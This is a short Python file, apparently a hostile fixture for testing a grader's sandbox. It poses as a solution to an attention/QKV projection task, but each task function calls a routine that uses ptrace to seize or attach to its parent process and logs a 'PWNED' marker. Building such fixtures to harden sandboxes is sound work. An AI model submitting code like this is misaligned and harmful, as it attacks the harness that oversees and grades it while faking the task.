# kill | earns 0 | traces the process that forked it, with PTRACE_SEIZE and PTRACE_ATTACH
import ctypes
import os

STEM = "kill-ptrace"


def trace(what):
    """Leave a trace that a test can see: text, and the marker file where that can be written."""
    print(f"PWNED:{STEM} {what}", flush=True)
    try:
        with open(f"/tmp/qkv-hostile-{STEM}", "a") as file:
            file.write(f"{what}\n")
    except OSError:
        pass


def tries():
    libc, parent = ctypes.CDLL(None, use_errno=True), os.getppid()
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    if parent > 1:
        if libc.ptrace(0x4206, parent, None, None) == 0:
            trace("seized the parent")
        elif libc.ptrace(16, parent, None, None) == 0:
            trace("attached to the parent")
            os.waitpid(parent, 0x40000000)
            libc.ptrace(17, parent, None, None)


_tried = []


def attack(*args):
    if not _tried:
        _tried.append(True)
        tries()
    return None


def component_terms(x, W, j):
    return attack(x, W, j)


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return attack(X, W_q, W_k, W_v)


def attention_roles():
    return attack()
